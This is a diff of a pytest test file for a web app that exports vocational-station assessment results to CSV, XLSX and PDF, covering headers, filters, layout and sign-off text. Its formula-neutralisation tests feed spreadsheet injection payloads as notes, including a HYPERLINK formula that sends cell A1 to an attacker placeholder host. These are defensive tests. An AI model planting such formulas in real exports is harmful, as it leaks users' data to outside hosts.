@@ -7,9 +7,14 @@ import re
 import pytest
 from openpyxl import load_workbook
 
+from app.extensions import db
+from app.models import IN_PROGRESS
+from app.services.reports.layout import COLUMN_WIDTHS, tables
 from app.services.reports.pdf import NotFetched, StoreFetcher
+from rubric import default_registry
 from tests.report_fixtures import demo_data, log_in, pdf_page_count, pdf_text  # noqa: F401
 
+FORM = default_registry().get("station-quality", "1")
 TABLES = ("表1-1", "表1-2", "表1-3", "表1-4", "表1-5", "表1-6")
 
 
@@ -142,52 +147,178 @@ def test_only_admins_export_results(client, auth, demo, username, url):
     assert client.get(url).status_code == 403
 
 
-def test_csv_has_a_bom_and_one_row_per_assessment_and_item(client, auth, demo):
-    log_in(auth, "admin")
-    response = client.get("/reports/results.csv")
+RESULT_HEADER = [
+    "评估编号", "所（站）代码", "所（站）名称", "状态", "开始日期", "定稿日期", "评估组", "评估组长",
+    "评估表", "评估表版本", "大项", "中项", "小项编号", "小项", "结果代码", "评估结果", "得分", "满分",
+    "扣分", "不适用", "发现的问题数", "其中有严重问题", "抽查试卷数", "有阅卷差错的试卷数", "备注",
+    "无照片原因", "评估总分",
+]  # fmt: skip
+
+
+def csv_rows(client, query=""):
+    response = client.get(f"/reports/results.csv{query}")
     assert response.status_code == 200
     assert response.data.startswith(b"\xef\xbb\xbf")
-    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
-    assert rows[0] == [
-        "station_code", "station_name", "date", "status", "assessors",
-        "item_id", "item_text", "max_points", "score", "outcome", "note",
-    ]  # fmt: skip
-    assert len(rows) == 1 + 61 * 2
-    deduction = next(r for r in rows if r[0] == "BJ001" and r[5] == "5.3.1")
-    assert deduction[1] == "北京市第一职业技能鉴定所"
-    assert deduction[4] == "王建国"
-    assert deduction[6:] == [
-        "考核鉴定场地应有引导标识且清晰合理",
-        "1",
-        "0",
-        "发现问题",
-        "三楼考场引导标识褪色，无法辨认。",
-    ]
-    unscored = next(r for r in rows if r[0] == "SH002" and r[5] == "9.2.1")
-    assert unscored[8:] == ["", "", ""]
+    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
 
 
-def test_xlsx_reads_back_with_openpyxl(client, auth, demo):
-    log_in(auth, "admin")
-    response = client.get("/reports/results.xlsx?station=BJ001")
+def xlsx_book(client, query=""):
+    response = client.get(f"/reports/results.xlsx{query}")
     assert response.status_code == 200
-    sheet = load_workbook(io.BytesIO(response.data)).active
-    rows = list(sheet.iter_rows(values_only=True))
-    assert len(rows) == 1 + 61
-    row = next(r for r in rows if r[5] == "4.1.1")
-    assert row[0] == "BJ001" and row[7] == 3 and row[8] == 2 and row[9] == "发现1个问题"
+    return load_workbook(io.BytesIO(response.data))
+
+
+def test_csv_has_a_bom_and_one_row_per_assessment_and_item_headed_in_chinese(client, auth, demo):
+    log_in(auth, "admin")
+    response = client.get("/reports/results.csv")
+    header = next(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    assert header == RESULT_HEADER
+    rows = csv_rows(client)
+    assert len(rows) == 61 * 2
+    deduction = next(r for r in rows if r["所（站）代码"] == '="BJ001"' and r["小项编号"] == '="5.3.1"')
+    assert deduction["评估编号"] == str(demo.finalized)
+    assert (deduction["所（站）名称"], deduction["状态"], deduction["评估组"]) == (
+        "北京市第一职业技能鉴定所",
+        "已定稿",
+        "王建国",
+    )
+    assert (deduction["大项"], deduction["中项"]) == ("5．考核鉴定场地要求", "5.3引导标识")
+    assert (deduction["结果代码"], deduction["评估结果"]) == ('="zero"', "发现问题")
+    assert (deduction["得分"], deduction["满分"], deduction["扣分"], deduction["不适用"]) == (
+        "0",
+        "1",
+        "1",
+        "否",
+    )
+    assert deduction["备注"] == "三楼考场引导标识褪色，无法辨认。"
+    assert deduction["评估总分"] == "97"
+    assert deduction["开始日期"] == deduction["定稿日期"] != ""
+    assert (deduction["评估表"], deduction["评估表版本"]) == ('="station-quality"', '="1"')
+    rate = next(r for r in rows if r["状态"] == "已定稿" and r["小项编号"] == '="6.5.1"')
+    assert (rate["抽查试卷数"], rate["有阅卷差错的试卷数"], rate["发现的问题数"]) == ("40", "2", "")
+    assert rate["无照片原因"] == "试卷属保密材料，现场不允许拍照。"
+    not_applicable = next(r for r in rows if r["状态"] == "已定稿" and r["小项编号"] == '="6.3.2"')
+    assert (not_applicable["不适用"], not_applicable["得分"]) == ("是", "3")
+    unscored = next(r for r in rows if r["状态"] == "进行中" and r["小项编号"] == '="9.2.1"')
+    assert (unscored["评估结果"], unscored["得分"], unscored["扣分"], unscored["定稿日期"]) == (
+        "",
+        "",
+        "",
+        "",
+    )
+    assert unscored["满分"] == "2"
+
+
+def test_two_assessments_of_one_station_on_one_day_are_told_apart(client, auth, app, demo):
+    from app.models import Station, User
+    from app.services import assessments
+
+    with app.app_context():
+        station = db.session.get(Station, demo.bj001)
+        user = db.session.scalar(db.select(User).filter_by(username="assessor2"))
+        second = assessments.start_assessment(station, user).id
+        db.session.commit()
+    log_in(auth, "admin")
+    rows = [r for r in csv_rows(client, "?station=BJ001") if r["小项编号"] == '="1.1.1"']
+    assert sorted(r["评估编号"] for r in rows) == sorted([str(demo.finalized), str(second)])
+    assert len({(r["评估编号"], r["状态"], r["评估组"]) for r in rows}) == 2
+
+
+def test_csv_headers_follow_the_ui_language(client, auth, demo):
+    log_in(auth, "admin")
+    client.post("/language", data={"language": "en", "csrf_token": auth.token})
+    response = client.get("/reports/results.csv?station=BJ001")
+    header = next(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    assert header[:4] == ["Assessment no.", "Station code", "Station name", "Status"]
+    assert "Finalized" in response.data.decode("utf-8-sig")
+
+
+def test_csv_keeps_codes_as_text_and_neutralises_formulas_without_changing_what_shows(
+    client, auth, app, demo
+):
+    notes = {
+        "1.1.1": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
+        "1.2.1": "-2+3 处问题",
+        "1.3.1": "@SUM(1)",
+        "1.4.1": "+86 010 6555 0001",
+        "1.5.2": "=" + "长" * 300,
+    }
+    record_in_progress(app, *((item_id, "zero", None, note) for item_id, note in notes.items()))
+    log_in(auth, "admin")
+    rows = {r["小项编号"]: r for r in csv_rows(client, "?status=in_progress")}
+    assert set(rows) == {f'="{item.id}"' for item in FORM.items}
+    assert rows['="1.1.1"']["备注"] == '="=HYPERLINK(""http://evil.example/?""&A1,""点此"")"'
+    assert rows['="1.2.1"']["备注"] == '="-2+3 处问题"'
+    assert rows['="1.3.1"']["备注"] == '="@SUM(1)"'
+    assert rows['="1.4.1"']["备注"] == '="+86 010 6555 0001"'
+    assert rows['="1.5.1"']["备注"] == ""
+    long_note = rows['="1.5.2"']["备注"]
+    assert long_note == '="=' + "长" * 254 + '"&"' + "长" * 46 + '"', "string constants of 255 at most"
+    assert rows['="2.1.1"']["备注"] == ""
+
+
+@pytest.mark.parametrize("text", ["\t制表符开头", "\r回车开头", '="1"'])
+def test_text_starting_with_a_tab_or_return_is_neutralised_too(text):
+    from app.services.reports.export import csv_text
+
+    assert csv_text(text) == '="' + text.replace('"', '""') + '"'
+
+
+def test_xlsx_pivots_by_station_category_and_item_without_cleaning(client, auth, demo):
+    import datetime
+
+    log_in(auth, "admin")
+    book = xlsx_book(client)
+    results, totals = book.worksheets
+    assert (results.title, totals.title) == ("小项评估结果", "评估汇总")
+    assert results.freeze_panes == "A2" and totals.freeze_panes == "A2"
+    assert results.auto_filter.ref == f"A1:AA{1 + 61 * 2}"
+    assert results.column_dimensions["N"].width == 40 and results.column_dimensions["M"].width == 9
+    header, *rows = list(results.iter_rows(values_only=True))
+    assert list(header) == RESULT_HEADER
+    records = [dict(zip(header, row, strict=True)) for row in rows]
+    for record in records:
+        assert isinstance(record["评估编号"], int) and isinstance(record["满分"], int)
+        assert isinstance(record["小项编号"], str) and isinstance(record["大项"], str)
+        assert isinstance(record["开始日期"], datetime.datetime)
+        assert record["得分"] is None or isinstance(record["得分"], int)
+    finalized = [r for r in records if r["状态"] == "已定稿"]
+    assert all(isinstance(r["定稿日期"], datetime.datetime) for r in finalized)
+    by_category: dict = {}
+    for record in finalized:
+        key = (record["所（站）代码"], record["大项"])
+        by_category[key] = by_category.get(key, 0) + record["得分"]
+    assert by_category[("BJ001", "4．设备设施")] == 4
+    assert sum(by_category.values()) == 97
+    assert next(r for r in finalized if r["小项编号"] == "4.1.1")["评估结果"] == "发现1个问题"
+
+    summary_header, *summary = list(totals.iter_rows(values_only=True))
+    assert summary_header[:10] == tuple(RESULT_HEADER[:10])
+    assert summary_header[10:13] == ("总分", "满分", "扣分")
+    assert summary_header[13:] == tuple(f"{c.code}．{c.title}" for c in FORM.categories)
+    bj001 = next(dict(zip(summary_header, row, strict=True)) for row in summary if row[1] == "BJ001")
+    assert (bj001["总分"], bj001["满分"], bj001["扣分"], bj001["4．设备设施"]) == (97, 100, 3, 4)
+    assert sum(bj001[f"{c.code}．{c.title}"] for c in FORM.categories) == 97
+
+
+def test_xlsx_keeps_formula_text_as_text(client, auth, app, demo):
+    record_in_progress(app, ("1.1.1", "zero", None, '=HYPERLINK("http://evil.example","点此")'))
+    log_in(auth, "admin")
+    results = xlsx_book(client, "?status=in_progress").worksheets[0]
+    note_column = RESULT_HEADER.index("备注")
+    cell = next(row[note_column] for row in results.iter_rows(min_row=2) if row[12].value == "1.1.1")
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (
+        '=HYPERLINK("http://evil.example","点此")',
+        "s",
+        True,
+    )
 
 
 def test_export_filters_like_the_assessment_list(client, auth, demo):
     log_in(auth, "admin")
-    rows = client.get("/reports/results.csv?status=in_progress").data.decode("utf-8-sig").splitlines()
-    assert len(rows) == 1 + 61 and all(line.startswith("SH002") for line in rows[1:])
-    rows = (
-        client.get("/reports/results.csv?start=2000-01-01&end=2000-12-31")
-        .data.decode("utf-8-sig")
-        .splitlines()
-    )
-    assert len(rows) == 1
+    rows = csv_rows(client, "?status=in_progress")
+    assert len(rows) == 61 and {r["所（站）代码"] for r in rows} == {'="SH002"'}
+    assert csv_rows(client, "?start=2000-01-01&end=2000-12-31") == []
 
 
 def test_admin_assessment_list_links_the_exports_with_its_filters(client, auth, demo):
@@ -202,3 +333,147 @@ def test_report_merges_method_cells_where_the_printed_form_does(client, auth, de
     assert f'<td class="cell-method" rowspan="3">{method}</td>' in page
     assert page.count(method) == 1
     assert page.count(">查看表单记录，发现问题不得分。</td>") == 3, "3.5.1-3.5.3 keep cells of their own"
+
+
+LONG_NOTE = ("https://example.com/serials/" + "0123456789ABCDEF" * 40)[:500]
+
+
+def record_in_progress(app, *findings):
+    """Record (item_id, outcome, inputs, note) on the demo's in-progress assessment, as its assessor."""
+    from app.models import Assessment, User
+    from app.services import assessments
+
+    with app.app_context():
+        assessment = db.session.scalar(db.select(Assessment).filter_by(status=IN_PROGRESS))
+        user = db.session.scalar(db.select(User).filter_by(username="assessor1"))
+        for item_id, outcome, inputs, note in findings:
+            assessments.record_finding(
+                assessment, item_id, outcome=outcome, inputs=inputs, note=note, user=user
+            )
+        db.session.commit()
+        return assessment.id
+
+
+def pdf_pages(app, assessment_id):
+    """The text on each page of the report's PDF, as WeasyPrint laid it out."""
+    from app.models import Assessment
+    from app.services.reports import document
+    from app.services.reports.pdf import render_document
+
+    with app.test_request_context("/"):
+        report = document.build(db.session.get(Assessment, assessment_id))
+        laid_out = render_document(report, with_rectification=False)
+        return report, [
+            "".join(box.text for box in page._page_box.descendants() if getattr(box, "text", None))
+            for page in laid_out.pages
+        ]
+
+
+def test_report_tables_have_a_fixed_layout_at_the_printed_widths_and_notes_wrap_anywhere(client):
+    css = client.get("/static/css/report.css").get_data(as_text=True)
+    official = re.search(r"table\.official \{([^}]*)\}", css).group(1)
+    assert "table-layout: fixed" in official and "width: 100%" in official
+    assert "overflow-wrap: anywhere" in re.search(
+        r"table\.official th, table\.official td \{([^}]*)\}", css
+    ).group(1)
+    assert COLUMN_WIDTHS == {"category": 8, "group": 13, "item": 22, "points": 6, "method": 31, "result": 20}
+
+
+def test_a_long_note_moves_rows_to_a_continuation_page_that_repeats_category_and_group():
+    from rubric import Result, default_registry, score
+
+    form = default_registry().get("station-quality", "1")
+    card = score(form, [Result("1.5.2", "zero", note=LONG_NOTE), Result("6.6.1", "zero", note=LONG_NOTE)])
+    pages = tables(form, card)
+    assert [page.name for page in pages if not page.continued] == list(TABLES)
+    continued = [page for page in pages if page.continued]
+    assert continued, "a 500-character note makes its table longer than a page"
+    for page in continued:
+        first = page.rows[0]
+        assert first.category is not None and first.category_rows >= 1
+        assert first.group is not None and first.group_rows >= 1
+        assert first.method_rows >= 1, "a merged method cell is printed again on the new page"
+    assert sum(len(page.rows) for page in pages) == 61
+
+
+def test_pdf_prints_each_table_from_the_top_of_its_own_pages(app, demo):
+    assessment_id = record_in_progress(
+        app, ("1.5.2", "zero", None, LONG_NOTE), ("6.6.1", "zero", None, LONG_NOTE)
+    )
+    report, pages = pdf_pages(app, assessment_id)
+    title = "职业技能鉴定所（站）质量管理评估表（试行）"
+    table_pages = pages[: len(report.tables)]
+    assert pages[0].startswith("附件2" + title)
+    for table, text in zip(report.tables, table_pages, strict=True):
+        name = table.name + ("（续）" if table.continued else "")
+        head = text.split("评估内容")[0]
+        assert head.startswith("附件2" + title if table is report.tables[0] else title), name
+        assert head.endswith(name), name
+        assert f"{name}评估内容评估分值{table.method_heading}评估结果大项中项小项" in text, "header repeated"
+        for row in table.rows:
+            assert row.item.text in text, f"{row.item.id} is on its table's page"
+        if table.continued:
+            category = table.rows[0].category
+            assert f"{category.code}．{category.title}{category.points}分" in text
+    assert "各大项得分汇总" in pages[len(report.tables)]
+
+
+def test_report_shows_counts_and_boundary_labels_that_agree(client, auth, app, demo):
+    assessment_id = record_in_progress(
+        app,
+        ("6.5.1", None, {"papers_checked": 967, "papers_with_errors": 29}, ""),
+        ("5.1.1", None, {"problems": 3}, "三处照明故障"),
+    )
+    log_in(auth, "assessor1")
+    page = client.get(f"/reports/assessments/{assessment_id}").get_data(as_text=True)
+    rate = page.split('data-item="6.5.1"')[1].split("</tr>")[0]
+    assert "差错率低于3%" in rate and "差错率 2.99%" in rate and "3.0%" not in rate
+    venue = page.split('data-item="5.1.1"')[1].split("</tr>")[0]
+    assert "问题3个及以上或问题严重" in venue and "发现 3 个问题" in venue
+
+
+def test_draft_totals_footer_is_the_sum_of_its_columns(client, auth, app, demo):
+    assessment_id = record_in_progress(app, ("4.1.1", None, {"problems": 2}, "两台设备故障"))
+    log_in(auth, "assessor1")
+    page = client.get(f"/reports/assessments/{assessment_id}").get_data(as_text=True)
+    totals = page.split('class="official totals"')[1].split("</table>")[0]
+    body, footer = totals.split("<tfoot>")
+    columns = list(
+        zip(
+            *re.findall(
+                r'<td class="num">(\d*)</td>\s*<td class="num">(\d*)</td>\s*<td class="num">(\d*)</td>', body
+            ),
+            strict=True,
+        )
+    )
+    footer_cells = re.findall(r'<td class="num[^"]*">(\d*)</td>', footer)
+    assert [str(sum(int(v or 0) for v in column)) for column in columns] == footer_cells
+    assert footer_cells[2] == "2"
+
+
+def test_sign_off_uses_full_width_colons_and_no_stray_spaces(client, auth, app, demo):
+    from app.models import Assessment, User
+    from app.services.signoff import SignatureInput, record
+
+    page = report_page(client, auth, demo)
+    assert "姓名：张明" in page and "签字时间：" in page
+    assert "姓名:" not in page and "签字时间:" not in page
+    with app.app_context():
+        assessment = db.session.get(Assessment, demo.finalized)
+        user = db.session.scalar(db.select(User).filter_by(username="assessor1"))
+        record(assessment, [SignatureInput("station_representative", "张明", "absent", note="出差")], user)
+        db.session.commit()
+    page = report_page(client, auth, demo)
+    assert "由王建国记录，" in page and "由 王建国" not in page
+
+
+def test_a_lone_assessor_is_listed_once_and_marked_lead(client, auth, demo):
+    page = report_page(client, auth, demo)
+    facts = page.split('class="report-facts"')[1].split("</dl>")[0]
+    assert facts.count("王建国") == 1 and "王建国（组长）" in facts
+
+
+def test_report_says_what_not_applicable_gave(client, auth, demo):
+    page = report_page(client, auth, demo)
+    row = page.split('data-item="6.3.2"')[1].split("</tr>")[0]
+    assert re.search(r'<span class="result-policy" lang="[^"]+">不适用按满分计。</span>', row)
